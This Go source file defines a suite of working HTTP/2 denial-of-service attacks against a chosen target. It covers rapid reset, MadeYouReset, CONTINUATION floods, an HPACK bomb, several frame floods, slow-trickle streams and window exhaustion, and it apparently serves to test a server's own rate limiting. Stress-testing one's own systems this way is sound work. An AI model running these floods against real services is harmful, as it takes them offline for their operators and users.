package hostile

import (
	"bytes"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// All returns every attack.
func All(t Target) []Attack {
	headers := block(shouldRateLimit)
	request := Request(t.Domain, t.Key, t.Value)
	return append([]Attack{
		{Name: "calls without pause", begin: func(c *Conn) (func() error, error) {
			return c.calls(2, func(b []byte, stream uint32) []byte {
				return appendCall(b, stream, headers, request)
			}), nil
		}},
		{Name: "HPACK bomb", begin: hpackBomb},
		{Name: "headers too large", begin: largeHeaders},
		{Name: "open streams", begin: func(c *Conn) (func() error, error) {
			return c.calls(1, func(b []byte, stream uint32) []byte {
				return appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
			}), nil
		}},
		{Name: "DATA of one byte", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1) }},
		{Name: "requests without an end", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1025) }},
		{Name: "windows that grow", manners: Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}, begin: growWindows},
		{Name: "rapid reset", begin: func(c *Conn) (func() error, error) {
			return c.calls(2, func(b []byte, stream uint32) []byte {
				b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
				return appendCode(b, http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
			}), nil
		}},
		{Name: "rapid reset of whole calls", begin: func(c *Conn) (func() error, error) {
			return c.calls(3, func(b []byte, stream uint32) []byte {
				b = appendCall(b, stream, headers, request)
				return appendCode(b, http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
			}), nil
		}},
		{Name: "MadeYouReset", begin: func(c *Conn) (func() error, error) {
			return c.calls(3, func(b []byte, stream uint32) []byte {
				b = appendCall(b, stream, headers, request)
				return appendCode(b, http2.FrameWindowUpdate, stream, 0)
			}), nil
		}},
		{Name: "CONTINUATION flood", begin: func(c *Conn) (func() error, error) {
			return c.continuation(headers, strings.Repeat("x", 8000))
		}},
		{Name: "empty CONTINUATION flood", begin: func(c *Conn) (func() error, error) { return c.continuation(headers, "") }},
		flood("PING flood", appendFrame(nil, http2.FramePing, 0, 0, make([]byte, 8))),
		flood("SETTINGS flood", appendSettings(nil, http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100})),
		flood("WINDOW_UPDATE flood", appendCode(nil, http2.FrameWindowUpdate, 0, 1)),
		flood("PRIORITY flood", appendFrame(nil, http2.FramePriority, 0, 1, []byte{0, 0, 0, 0, 1})),
		flood("flood of unknown frames", appendFrame(nil, 0xfe, 0, 0, nil)),
		{Name: "empty DATA flood", begin: func(c *Conn) (func() error, error) {
			err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, headers))
			return c.again(chunk, times(chunk, appendFrame(nil, http2.FrameData, 0, 1, nil))), err
		}},
		{Name: "replies never read", manners: Manners{Deaf: true}, begin: func(c *Conn) (func() error, error) {
			return c.calls(2, func(b []byte, stream uint32) []byte {
				return appendCall(b, stream, headers, request)
			}), nil
		}},
		{
			Name:    "windows of zero",
			manners: Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}},
			begin: func(c *Conn) (func() error, error) {
				return c.calls(2, func(b []byte, stream uint32) []byte {
					return appendCall(b, stream, headers, request)
				}), nil
			},
		},
	}, append(windowAttacks(headers, request), bombs(t)...)...)
}

// chunk is how many small frames are written at once.
const chunk = 1024

// flood sends one frame over and over.
func flood(name string, frame []byte) Attack {
	return Attack{Name: name, begin: func(c *Conn) (func() error, error) {
		return c.again(chunk, times(chunk, frame)), nil
	}}
}

// hpackBomb puts a field into the dynamic table that nearly fills it. Then it makes
// requests of thousands of references to the field, one byte each.
func hpackBomb(c *Conn) (func() error, error) {
	headers := block(shouldRateLimit)
	var large strings.Builder
	e := hpack.NewEncoder(&large)
	if err := e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3900)}); err != nil {
		return nil, err
	}
	first := slices.Concat(headers, []byte(large.String()))
	if err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, first)); err != nil {
		return nil, err
	}
	const newest = 0x80 | 62 // the dynamic table's first entry
	bomb := slices.Concat(headers, bytes.Repeat([]byte{newest}, 4000))
	stream := uint32(3)
	var b []byte
	return func() error {
		b = appendFrame(b[:0], http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, stream, bomb)
		stream += 2
		return c.Send(1, b)
	}, nil
}

// largeHeaders makes calls with more headers than the server takes, in the largest
// frames.
func largeHeaders(c *Conn) (func() error, error) {
	// 15 KiB in a frame. Each field counts 32 bytes more, so that ten frames are a
	// list of some 200 KiB.
	var fields []hpack.HeaderField
	for range 230 {
		fields = append(fields, hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 60)})
	}
	headers := block(shouldRateLimit, fields...)
	more := block("", fields...)[len(block("")):]
	const parts = 9
	stream := uint32(1)
	var b []byte
	return func() error {
		b = appendFrame(b[:0], http2.FrameHeaders, http2.FlagHeadersEndStream, stream, headers)
		for range parts - 1 {
			b = appendFrame(b, http2.FrameContinuation, 0, stream, more)
		}
		b = appendFrame(b, http2.FrameContinuation, http2.FlagContinuationEndHeaders, stream, more)
		stream += 2
		return c.Send(1+parts, b)
	}, nil
}

// manyStreams is how many streams are held open: as many as sluice allows.
const manyStreams = 1024

// trickle begins many requests of nearly the largest size. It sends them in frames of
// this size, stream by stream, all but their last bytes.
func (c *Conn) trickle(headers []byte, size int) (func() error, error) {
	const message = 64 << 10
	var b []byte
	for i := range uint32(manyStreams) {
		b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*i, headers)
		b = appendFrame(b, http2.FrameData, 0, 1+2*i, prefix(message))
	}
	if err := c.Send(2*manyStreams, b); err != nil {
		return nil, err
	}
	part := make([]byte, size)
	// The window of a stream has room for all but its prefix and the last bytes.
	left := (defaultWindow - 5) / size
	return func() error {
		if left == 0 {
			return errHold
		}
		left--
		b = b[:0]
		for i := range uint32(manyStreams) {
			b = appendFrame(b, http2.FrameData, 0, 1+2*i, part)
		}
		return c.Send(manyStreams, b)
	}, nil
}

// growWindows asks for reflection on many streams and does not take the answers, so the
// questions wait unread. It sends as many as the server's windows allow. It answers the
// server's pings, because grpc-go grows windows by them.
func growWindows(c *Conn) (func() error, error) {
	// Until the server has said how large its windows are, more would be a breach of its own.
	select {
	case <-c.greeted:
	case <-c.ended:
	}
	headers := block(reflectionInfo)
	var b []byte
	for i := range uint32(manyStreams) {
		b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*i, headers)
	}
	if err := c.Send(manyStreams, b); err != nil {
		return nil, err
	}
	question := Framed(field(7, "*")) // list_services
	part := times((16<<10)/len(question), question)
	var sent [manyStreams]int64
	next := 0
	return func() error {
		b, frames := b[:0], 0
		for window := c.window.Load(); frames < 64 && next < manyStreams; {
			if sent[next]+int64(len(part)) > window {
				next++
				continue
			}
			b = appendFrame(b, http2.FrameData, 0, uint32(1+2*next), part)
			sent[next] += int64(len(part))
			frames++
		}
		if next == manyStreams {
			// All windows are full. They may grow, so look again.
			next = 0
			if frames == 0 {
				time.Sleep(time.Millisecond)
			}
		}
		if err := c.Send(frames, b); err != nil {
			return err
		}
		return c.Flush()
	}, nil
}

// continuation begins a header block that never ends.
func (c *Conn) continuation(headers []byte, value string) (func() error, error) {
	if err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndStream, 1, headers)); err != nil {
		return nil, err
	}
	var fields []byte
	if value != "" {
		fields = block("", hpack.HeaderField{Name: "x", Value: value})
		fields = fields[len(block("")):]
	}
	frame := appendFrame(nil, http2.FrameContinuation, 0, 1, fields)
	n := max(1, (32<<10)/len(frame))
	return c.again(n, times(n, frame)), nil
}
